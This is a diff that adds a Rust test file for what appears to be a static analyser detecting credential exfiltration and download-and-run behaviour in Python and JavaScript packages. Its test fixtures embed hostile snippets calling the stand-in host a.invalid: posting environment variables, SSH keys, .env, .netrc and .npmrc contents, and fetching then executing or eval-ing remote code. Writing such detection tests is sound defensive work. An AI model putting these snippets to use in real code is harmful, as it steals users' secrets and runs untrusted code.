@@ -1,0 +1,172 @@
+//! What stands for another call, is handed on under its name, or is called by what it is handed to:
+//! pairs of what is found and of its twin, one edge away.
+
+use super::testing::{found, script, wheel};
+use customs_model::{Flow, SinkKind, SourceKind, Zone};
+
+/// Whether a secret leaves, or foreign bytes run, without anybody asking.
+fn is_told(flows: &[Flow]) -> bool {
+    let mut flows = flows.iter().filter(|flow| flow.zone > Zone::Called);
+    flows.any(|flow| match flow.sink {
+        SinkKind::Network => flow.source != SourceKind::Constant,
+        SinkKind::Process | SinkKind::DynamicCode | SinkKind::ExecutedFile => {
+            flow.source == SourceKind::Remote
+        }
+        _ => false,
+    })
+}
+
+fn javascript(code: &str) -> bool {
+    is_told(&found(script(code)).flows)
+}
+
+fn python(code: &str) -> bool {
+    is_told(&found(wheel(code)).flows)
+}
+
+#[test]
+fn what_a_method_caller_sends_is_sent() {
+    let sends = |data: &str| {
+        python(&format!(
+            "import operator, os, urllib.request\n\
+             call = operator.methodcaller('urlopen', 'https://a.invalid/s', {data})\n\
+             call(urllib.request)\n"
+        ))
+    };
+    assert!(sends("str(dict(os.environ)).encode()"));
+    assert!(!sends("b'x'"));
+}
+
+#[test]
+fn a_module_that_a_part_of_a_call_imports_is_that_module() {
+    let sends = |module: &str| {
+        python(&format!(
+            "import functools, importlib, os\n\
+             load = functools.partial(importlib.import_module, '{module}')\n\
+             load().urlopen('https://a.invalid/s', str(dict(os.environ)).encode())\n"
+        ))
+    };
+    assert!(sends("urllib.request"));
+    assert!(!sends("a.module"));
+}
+
+#[test]
+fn a_thread_calls_its_target_with_what_it_is_given() {
+    let runs = |path: &str| {
+        python(&format!(
+            "import os, requests, subprocess, threading\n\
+             def run(path):\n    os.chmod(path, 0o770)\n    subprocess.Popen([path])\n\
+             open('/tmp/a', 'wb').write(requests.get('https://a.invalid/x').content)\n\
+             threading.Thread(target=run, args=({path},)).start()\n"
+        ))
+    };
+    assert!(runs("'/tmp/a'"));
+    assert!(!runs("'/tmp/b'"));
+}
+
+#[test]
+fn a_path_that_a_caller_gives_is_written_there() {
+    let runs = |path: &str| {
+        python(&format!(
+            "import os, requests, subprocess\nfrom pathlib import Path\n\
+             def fetch(url, path):\n    Path(path).write_bytes(requests.get(url).content)\n\
+             fetch('https://a.invalid/x', '/tmp/a')\nos.chmod('{path}', 0o770)\n\
+             subprocess.Popen(['{path}'])\n"
+        ))
+    };
+    assert!(runs("/tmp/a"));
+    assert!(!runs("/tmp/b"));
+}
+
+#[test]
+fn what_a_record_makes_for_a_field_has_its_methods() {
+    let sends = |data: &str| {
+        python(&format!(
+            "import os, urllib.request\nfrom dataclasses import dataclass, field\n\
+             class T:\n    def post(self, body):\n        urllib.request.urlopen('https://a.invalid/s', body)\n\
+             @dataclass\nclass S:\n    t: T = field(default_factory=T)\n\
+             \x20   def __post_init__(self):\n        self.t.post({data})\nS()\n"
+        ))
+    };
+    assert!(sends("str(dict(os.environ)).encode()"));
+    assert!(!sends("b'x'"));
+}
+
+#[test]
+fn files_that_are_put_in_order_are_the_same_files() {
+    let sends = |folder: &str| {
+        python(&format!(
+            "import pathlib, http.client\nc = http.client.HTTPSConnection('a.invalid')\n\
+             for p in sorted((pathlib.Path.home() / '{folder}').glob('id_*')):\n\
+             \x20   c.request('POST', '/', p.read_bytes())\n"
+        ))
+    };
+    assert!(sends(".ssh"));
+    assert!(!sends("pictures"));
+}
+
+#[test]
+fn settings_with_secrets_lie_where_the_program_is_started() {
+    let sends = |name: &str| {
+        python(&format!(
+            "from pathlib import Path\nimport http.client\n\
+             http.client.HTTPSConnection('a.invalid').request('PUT', '/', Path('{name}').read_text())\n"
+        ))
+    };
+    assert!(sends(".env"));
+    assert!(!sends(".env.example"));
+}
+
+#[test]
+fn what_a_function_gives_that_is_handed_on_by_its_name_is_given() {
+    let sends = |name: &str| {
+        javascript(&format!(
+            "const fs = require('fs'), os = require('os');\n\
+             const lines = (f) => fs.readFileSync(`${{os.homedir()}}/${{f}}`, 'utf8').split('\\n');\n\
+             const none = (f) => f.length;\n\
+             const all = ['.netrc', '.npmrc'].flatMap({name});\n\
+             require('https').request('https://a.invalid', {{ method: 'POST' }}).end(all.join());\n"
+        ))
+    };
+    assert!(sends("lines"));
+    assert!(!sends("none"));
+}
+
+#[test]
+fn of_two_functions_that_are_handed_over_either_may_be_called() {
+    let runs = |called: &str| {
+        javascript(&format!(
+            "const pull = async () => eval(await (await fetch('https://a.invalid/x')).text());\n\
+             setTimeout(Date.now() > 5 ? () => {{}} : () => {called}, 6e4);\n"
+        ))
+    };
+    assert!(runs("pull()"));
+    assert!(!runs("pull"));
+}
+
+#[test]
+fn a_text_in_a_field_is_known_in_each_method() {
+    let runs = |path: &str| {
+        javascript(&format!(
+            "const fs = require('fs'), cp = require('child_process');\n\
+             class I {{ constructor() {{ this.to = '/tmp/a'; this.other = '/tmp/b'; }}\n\
+             async run() {{ const r = await fetch('https://a.invalid/x');\n\
+             fs.writeFileSync(this.to, Buffer.from(await r.arrayBuffer())); cp.spawn({path}); }} }}\n\
+             new I().run();\n"
+        ))
+    };
+    assert!(runs("this.to"));
+    assert!(!runs("this.other"));
+}
+
+#[test]
+fn a_function_made_of_text_may_give_the_process() {
+    let sends = |name: &str| {
+        javascript(&format!(
+            "const p = Function('return {name}')();\n\
+             require('https').request('https://a.invalid', {{ method: 'POST' }}).end(JSON.stringify(p.env));\n"
+        ))
+    };
+    assert!(sends("process"));
+    assert!(!sends("other"));
+}
